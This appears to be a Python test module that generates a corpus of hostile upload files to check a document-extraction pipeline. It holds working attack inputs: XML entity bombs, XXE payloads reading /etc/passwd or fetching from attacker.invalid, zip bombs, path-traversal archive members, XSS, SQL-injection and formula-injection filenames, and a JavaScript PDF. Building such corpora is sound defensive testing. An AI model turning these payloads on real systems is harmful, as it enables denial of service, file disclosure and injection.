"""A corpus of hostile and broken files, generated at test time (nothing binary is committed).

Each entry says its family and what it may end as: "refused" (turned away at upload, with a message naming the
file) or one of the extraction statuses. Families: zip bombs and lying archives, XML entity bombs in every part
a parser reads, malformed and encrypted PDFs (RC4 encryption written here, R2 of the PDF standard), polyglots,
path tricks in names, HTML and SVG sent as PDF, DOCX and ODT variants, and odd text.
"""

import hashlib
import io
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass

from plenary.consultations.tests.factories import _pdf_assemble, docx_bytes, encrypted_pdf_bytes, odt_bytes, pdf_bytes

REFUSED = "refused"
HOSTILE = {"hostile", "too-large"}
BROKEN = {"malformed", "failed", "empty", REFUSED}
READ = {"done", "empty"}
ANY_STATUS = {"done", "empty", "encrypted", "malformed", "too-large", "timeout", "hostile", "failed", REFUSED}


@dataclass(frozen=True)
class HostileFile:
    name: str
    content: bytes
    family: str
    may_end_as: frozenset[str]


def _zip(parts: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=1) as archive:  # level 1: bombs are made fast
        for name, data in parts:
            archive.writestr(name, data)
    return out.getvalue()


def _rewrite(document: bytes, replace: dict[str, bytes], drop: tuple[str, ...] = ()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(document)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in drop:
                continue
            data = replace.pop(info.filename, None)
            target.writestr(info, data if data is not None else source.read(info))
        for name, data in replace.items():
            target.writestr(name, data)
    return out.getvalue()


LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
    + "]>"
)
QUADRATIC = '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "' + "a" * 50_000 + '">]>'
EXTERNAL = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY % e SYSTEM "http://attacker.invalid/x.dtd"> %e;]>'


def _bombs_in_parts() -> list[HostileFile]:
    docx, odt = docx_bytes("Body text"), odt_bytes("Body text")
    files = []
    docx_parts = [
        "word/document.xml",
        "word/styles.xml",
        "docProps/core.xml",
        "[Content_Types].xml",
        "word/_rels/document.xml.rels",
        "word/settings.xml",
    ]
    odt_parts = ["content.xml", "styles.xml", "settings.xml", "meta.xml", "META-INF/manifest.xml"]
    for dtd_name, dtd in [("laughs", LAUGHS), ("quadratic", QUADRATIC), ("xxe", EXTERNAL), ("parameter", PARAMETER)]:
        body = dtd + (
            "<r>&lol9;</r>" if dtd_name == "laughs" else "<r>&a;&a;&a;</r>" if dtd_name == "quadratic" else "<r/>"
        )
        for part in docx_parts:
            files.append(
                HostileFile(
                    f"{dtd_name}-{part.replace('/', '_')}.docx",
                    _rewrite(docx, {part: body.encode()}),
                    "xml bomb",
                    frozenset({"hostile"}),
                )
            )
        for part in odt_parts:
            files.append(
                HostileFile(
                    f"{dtd_name}-{part.replace('/', '_')}.odt",
                    _rewrite(odt, {part: body.encode()}),
                    "xml bomb",
                    frozenset({"hostile"}),
                )
            )
    utf16 = (LAUGHS.replace('"1.0"', '"1.0" encoding="UTF-16"') + "<office:document-settings/>").encode("utf-16")
    files.append(
        HostileFile("utf16-settings.odt", _rewrite(odt, {"settings.xml": utf16}), "xml bomb", frozenset({"hostile"}))
    )
    spaced = '<?xml version="1.0"?>\n<!DOCTYPE\n  lolz\n [<!ENTITY lol "lol">]><w:document>&lol;</w:document>'
    files.append(
        HostileFile(
            "newline-doctype.docx",
            _rewrite(docx, {"word/document.xml": spaced.encode()}),
            "xml bomb",
            frozenset({"hostile"}),
        )
    )
    return files


def _lying_zip(declared: int, actual: bytes, name: str = "word/document.xml") -> bytes:
    """A one-part archive whose headers declare `declared` bytes for a part that inflates to `actual`."""
    compressor = zlib.compressobj(1, zlib.DEFLATED, -15)
    data = compressor.compress(actual) + compressor.flush()
    crc = zlib.crc32(actual)
    encoded = name.encode()
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), declared, len(encoded), 0)
    central = struct.pack(
        "<4sHHHHHHIIIHHHHHII",
        b"PK\x01\x02",
        20,
        20,
        0,
        8,
        0,
        0,
        crc,
        len(data),
        declared,
        len(encoded),
        0,
        0,
        0,
        0,
        0,
        0,
    )
    body = local + encoded + data
    directory = central + encoded
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), len(body), 0)
    return body + directory + end


def _zips() -> list[HostileFile]:
    files = []
    for megabytes in (5, 60):
        bomb = _zip(
            [
                ("[Content_Types].xml", b"<Types/>"),
                ("word/document.xml", b"<w:document>" + b" " * (megabytes << 20) + b"</w:document>"),
            ]
        )
        files.append(HostileFile(f"bomb-{megabytes}mb.docx", bomb, "zip bomb", frozenset(HOSTILE)))
    odt_bomb = _zip(
        [("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b" " * (60 << 20))],
        zipfile.ZIP_DEFLATED,
    )
    files.append(HostileFile("bomb.odt", odt_bomb, "zip bomb", frozenset(HOSTILE)))
    many = _zip(
        [("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>")]
        + [(f"x/{i}", b"") for i in range(2_500)]
    )
    files.append(HostileFile("many-parts.docx", many, "zip bomb", frozenset({"hostile"})))
    # A part that declares 100 bytes and inflates to 60 MB: the read is bounded by the declaration.
    files.append(
        HostileFile("lying-size.docx", _lying_zip(100, b" " * (60 << 20)), "zip bomb", frozenset(BROKEN | HOSTILE))
    )
    files.append(
        HostileFile(
            "lying-crc.docx",
            _lying_zip(1000, b"x" * 1000)[:-30] + b"\x00" * 30,
            "zip bomb",
            frozenset(BROKEN | HOSTILE),
        )
    )
    # Nested: a 100 MB bomb inside a part of a small, valid document (never inflated by us).
    inner = _zip([("a", b"\x00" * (100 << 20))])
    files.append(
        HostileFile(
            "nested.docx",
            _rewrite(docx_bytes("Outer"), {"word/media/inner.zip": inner}),
            "zip bomb",
            frozenset(READ | HOSTILE),
        )
    )
    stored = _zip([("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>")], zipfile.ZIP_STORED)
    files.append(HostileFile("stored.docx", stored, "docx variant", frozenset(BROKEN | READ)))
    # An unknown compression method (99, as AES archives use) and a part flagged as encrypted.
    unknown = bytearray(_zip([("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>")]))
    for offset in _header_offsets(bytes(unknown)):
        struct.pack_into("<H", unknown, offset + (8 if unknown[offset + 2] == 3 else 10), 99)
    files.append(HostileFile("method-99.docx", bytes(unknown), "zip trick", frozenset(BROKEN)))
    flagged = bytearray(_zip([("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>")]))
    for offset in _header_offsets(bytes(flagged)):
        position = offset + (6 if flagged[offset + 2] == 3 else 8)
        struct.pack_into("<H", flagged, position, struct.unpack_from("<H", flagged, position)[0] | 1)
    files.append(HostileFile("encrypted-part.docx", bytes(flagged), "zip trick", frozenset(BROKEN)))
    files.append(HostileFile("truncated.docx", docx_bytes("Cut short")[:2000], "zip trick", frozenset(BROKEN)))
    files.append(HostileFile("empty-archive.docx", b"PK\x05\x06" + b"\x00" * 18, "zip trick", frozenset({REFUSED})))
    traversal = _rewrite(docx_bytes("Paths"), {"../../../../tmp/plenary-evil": b"x", "/etc/passwd": b"x"})
    files.append(HostileFile("traversal-members.docx", traversal, "zip trick", frozenset(READ)))
    return files


def _header_offsets(data: bytes) -> list[int]:
    offsets, start = [], 0
    while (found := data.find(b"PK", start)) != -1:
        if data[found + 2 : found + 4] in {b"\x03\x04", b"\x01\x02"}:
            offsets.append(found)
        start = found + 2
    return offsets


# PDFs ----------------------------------------------------------------------------------------------------------------

PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def _rc4(key: bytes, data: bytes) -> bytes:
    state = list(range(256))
    j = 0
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


def rc4_encrypted_pdf(text: str, *, user_password: bytes, owner_password: bytes = b"owner") -> bytes:
    """A one-page PDF encrypted with the standard security handler, revision 2 (40-bit RC4)."""
    file_id = hashlib.md5(text.encode()).digest()  # noqa: S324 (the PDF standard's own algorithm)
    padded_owner = (owner_password + PAD)[:32]
    padded_user = (user_password + PAD)[:32]
    owner_entry = _rc4(hashlib.md5(padded_owner).digest()[:5], padded_user)  # noqa: S324
    permissions = -4
    key = hashlib.md5(padded_user + owner_entry + struct.pack("<i", permissions) + file_id).digest()[:5]  # noqa: S324
    user_entry = _rc4(key, PAD)
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    object_key = hashlib.md5(key + struct.pack("<I", 4)[:3] + b"\x00\x00").digest()[:10]  # noqa: S324
    encrypted = _rc4(object_key, stream).decode("latin-1")
    objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        f"<< /Length {len(stream)} >>\nstream\n{encrypted}\nendstream",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        "/Resources << /Font << /F1 3 0 R >> >> >>",
        f"<< /Filter /Standard /V 1 /R 2 /O <{owner_entry.hex()}> /U <{user_entry.hex()}> /P {permissions} >>",
    ]
    return _pdf_assemble(objects, trailer_extra=f"/Encrypt 6 0 R /ID [<{file_id.hex()}> <{file_id.hex()}>] ")


def _flate_bomb_pdf(megabytes: int) -> bytes:
    inflated = b"BT /F1 12 Tf 72 720 Td (x) Tj ET\n" + b" " * (megabytes << 20)
    data = zlib.compress(inflated, 1).decode("latin-1")
    objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        f"<< /Length {len(data)} /Filter /FlateDecode >>\nstream\n{data}\nendstream",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R >>",
    ]
    return _pdf_assemble(objects)


def _pdfs() -> list[HostileFile]:
    good = pdf_bytes("A readable page", pages=3)
    files = [
        HostileFile("good.pdf", good, "baseline", frozenset({"done"})),
        HostileFile("encrypted-unknown.pdf", encrypted_pdf_bytes(), "encrypted pdf", frozenset({"encrypted"})),
        HostileFile(
            "rc4-user-password.pdf",
            rc4_encrypted_pdf("Locked words", user_password=b"secret"),
            "encrypted pdf",
            frozenset({"encrypted"}),
        ),
        HostileFile(
            "rc4-owner-only.pdf",
            rc4_encrypted_pdf("Open words", user_password=b""),
            "encrypted pdf",
            frozenset({"done"}),
        ),
        HostileFile("header-only.pdf", b"%PDF-1.7\n", "malformed pdf", frozenset(BROKEN)),
        HostileFile("no-xref.pdf", good[: good.index(b"xref")], "malformed pdf", frozenset(BROKEN | READ)),
        HostileFile(
            "garbage.pdf", b"%PDF-1.4\n" + random.Random(7).randbytes(20_000), "malformed pdf", frozenset(BROKEN)
        ),
        HostileFile(
            "bad-startxref.pdf",
            good.replace(b"startxref\n", b"startxref\n99999999"),
            "malformed pdf",
            frozenset(BROKEN | READ),
        ),
        HostileFile(
            "count-a-billion.pdf",
            _pdf_assemble(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 1000000000 >>"]),
            "malformed pdf",
            frozenset(BROKEN | HOSTILE | READ),
        ),
        HostileFile(
            "pages-cycle.pdf",
            _pdf_assemble(
                ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"]
            ),
            "malformed pdf",
            frozenset({"malformed"}),
        ),
        HostileFile(
            "deep-arrays.pdf",
            _pdf_assemble(
                [
                    "<< /Type /Catalog /Pages 2 0 R /X " + "[" * 50_000 + "]" * 50_000 + " >>",
                    "<< /Type /Pages /Kids [] /Count 0 >>",
                ]
            ),
            "malformed pdf",
            frozenset(BROKEN | HOSTILE | READ),
        ),
        HostileFile("flate-bomb.pdf", _flate_bomb_pdf(100), "pdf bomb", frozenset(ANY_STATUS - {REFUSED})),
        HostileFile(
            "javascript.pdf",
            good.replace(
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
            ),
            "active pdf",
            frozenset(READ | BROKEN),
        ),
    ]
    for cut in (0.1, 0.3, 0.5, 0.7, 0.9, 0.97):
        files.append(
            HostileFile(
                f"truncated-{int(cut * 100)}.pdf",
                good[: int(len(good) * cut)],
                "malformed pdf",
                frozenset(BROKEN | READ),
            )
        )
    return files


# Polyglots, names, markup, variants, text ----------------------------------------------------------------------------


def _polyglots() -> list[HostileFile]:
    pdf = pdf_bytes("Polyglot page")
    archive = _zip([("payload.html", b"<script>alert(1)</script>")])
    return [
        HostileFile("pdf-then-zip.pdf", pdf + archive, "polyglot", frozenset(READ | BROKEN)),
        HostileFile("zip-then-pdf.docx", archive + pdf, "polyglot", frozenset({REFUSED})),
        HostileFile(
            "pdf-html.pdf",
            b"%PDF-1.4\n<html><script>alert(1)</script></html>\n" + pdf[9:],
            "polyglot",
            frozenset(READ | BROKEN),
        ),
        HostileFile("gifar.pdf", b"GIF89a\x01\x00\x01\x00\x00\xff\x00," + archive, "polyglot", frozenset({REFUSED})),
        HostileFile("jpeg-pdf.pdf", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + pdf, "polyglot", frozenset({REFUSED})),
        HostileFile(
            "docx-jar.docx",
            _rewrite(docx_bytes("Jar"), {"META-INF/MANIFEST.MF": b"Main-Class: X\n"}),
            "polyglot",
            frozenset(READ),
        ),
        HostileFile(
            "docx-with-pdf-part.docx",
            _rewrite(docx_bytes("Part"), {"word/embeddings/x.pdf": pdf}),
            "polyglot",
            frozenset(READ),
        ),
        HostileFile("elf.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "polyglot", frozenset({REFUSED})),
        HostileFile("pe.docx", b"MZ\x90\x00" + b"\x00" * 100, "polyglot", frozenset({REFUSED})),
    ]


def _names() -> list[HostileFile]:
    text = b"Plain words in a file with a strange name."
    names = [
        "../../etc/passwd.txt",
        "/etc/shadow.txt",
        "C:\\Windows\\System32\\drivers\\etc\\hosts.txt",
        "..\\..\\boot.ini.txt",
        "nul\x00byte.txt",
        "new\nline.txt",
        "tab\there.txt",
        "CON.txt",
        "\u202egnp.exe.txt",
        "%2e%2e%2f%2e%2e%2fescape.txt",
        "ｆｕｌｌｗｉｄｔｈ／ｓｌａｓｈ.txt",
        "a" * 1000 + ".txt",
        ".htaccess",
        "<script>alert(1)</script>.txt",
        "'; DROP TABLE consultations_contribution; --.txt",
        "=cmd|' /C calc'!A0.txt",
        " ",
        "...",
    ]
    return [HostileFile(name, text, "path trick", frozenset({"done", REFUSED})) for name in names]


def _markup_as_pdf() -> list[HostileFile]:
    html = (
        b"<!doctype html><html><body><script>alert(document.cookie)</script><img src=x onerror=alert(1)></body></html>"
    )
    svg = (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<script>alert(2)</script></svg>"
    )
    return [
        HostileFile("page.pdf", html, "html as pdf", frozenset({"done"})),
        HostileFile("image.pdf", svg, "svg as pdf", frozenset({"done"})),
        HostileFile(
            "image.svg.pdf",
            svg.replace(b'<?xml version="1.0"?>', b"<!DOCTYPE svg [<!ENTITY x 'y'>]>"),
            "svg as pdf",
            frozenset({"done"}),
        ),
        HostileFile("utf16.pdf", html.decode().encode("utf-16"), "html as pdf", frozenset({REFUSED})),
        HostileFile("page.docx", html, "html as docx", frozenset({"done"})),
        HostileFile("page.odt", svg, "svg as odt", frozenset({"done"})),
        HostileFile(
            "xhtml.pdf",
            b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "aaaa">]><html>&a;</html>',
            "html as pdf",
            frozenset({"done"}),
        ),
    ]


ENCRYPTED_MANIFEST = (
    b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    b'<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'
    b"</manifest:manifest>"
)


def _office_variants() -> list[HostileFile]:
    docx, odt = docx_bytes("Variant text"), odt_bytes("Variant text")
    big_text = docx_bytes(" ".join(["Many words"] * 20_000))
    return [
        HostileFile("good.docx", docx, "baseline", frozenset({"done"})),
        HostileFile("good.odt", odt, "baseline", frozenset({"done"})),
        HostileFile(
            "no-document.docx", _rewrite(docx, {}, drop=("word/document.xml",)), "docx variant", frozenset({REFUSED})
        ),
        HostileFile(
            "not-xml.docx",
            _rewrite(docx, {"word/document.xml": b"\x00\x01 not xml"}),
            "docx variant",
            frozenset(BROKEN),
        ),
        HostileFile(
            "deep-nesting.docx",
            _rewrite(docx, {"word/document.xml": b"<a>" * 200_000 + b"</a>" * 200_000}),
            "docx variant",
            frozenset(BROKEN | HOSTILE),
        ),
        HostileFile(
            "macros.docx",
            _rewrite(docx, {"word/vbaProject.bin": random.Random(1).randbytes(4096)}),
            "docx variant",
            frozenset(READ),
        ),
        HostileFile(
            "external-link.docx",
            _rewrite(
                docx,
                {
                    "word/_rels/footnotes.xml.rels": b'<Relationships><Relationship Id="r1" TargetMode="External" Target="http://attacker.invalid/x"/></Relationships>'
                },
            ),
            "docx variant",
            frozenset(READ),
        ),
        HostileFile("big-text.docx", big_text, "docx variant", frozenset(READ)),
        HostileFile("no-content.odt", _rewrite(odt, {}, drop=("content.xml",)), "odt variant", frozenset(BROKEN)),
        HostileFile(
            "wrong-mimetype.odt",
            _rewrite(odt, {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
            "odt variant",
            frozenset({REFUSED}),
        ),
        HostileFile(
            "encrypted.odt",
            _rewrite(
                odt,
                {
                    "content.xml": random.Random(2).randbytes(3000),
                    "META-INF/manifest.xml": ENCRYPTED_MANIFEST,
                },
            ),
            "odt variant",
            frozenset(BROKEN),
        ),
        HostileFile(
            "flat.fodt",
            b'<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
            "odt variant",
            frozenset({"done"}),
        ),
        HostileFile(
            "empty-body.docx",
            _rewrite(
                docx,
                {
                    "word/document.xml": b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
                },
            ),
            "docx variant",
            frozenset({"empty"} | BROKEN),
        ),
    ]


def _text() -> list[HostileFile]:
    return [
        HostileFile("empty.txt", b"", "text", frozenset({REFUSED})),
        HostileFile("one-byte.txt", b"x", "text", frozenset({"done"})),
        HostileFile("random.pdf", random.Random(3).randbytes(5000), "text", frozenset({REFUSED})),
        HostileFile("bad-utf8.txt", b"caf\xc3 and \xff\xfe more", "text", frozenset({REFUSED, "done"})),
        HostileFile("late-nul.txt", b"a" * 9000 + b"\x00\x00" + b"b" * 100, "text", frozenset({"done"})),
        HostileFile("long-line.md", b"#" + b"x" * (3 << 20), "text", frozenset({"done"})),
        HostileFile(
            "eicar.txt",
            b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
            "text",
            frozenset({"done"}),
        ),
        HostileFile("rtl-and-controls.txt", "\u202e\u200f\u0007\u001b[31mred".encode(), "text", frozenset({"done"})),
    ]


def corpus() -> list[HostileFile]:
    return [
        *_bombs_in_parts(),
        *_zips(),
        *_pdfs(),
        *_polyglots(),
        *_names(),
        *_markup_as_pdf(),
        *_office_variants(),
        *_text(),
    ]
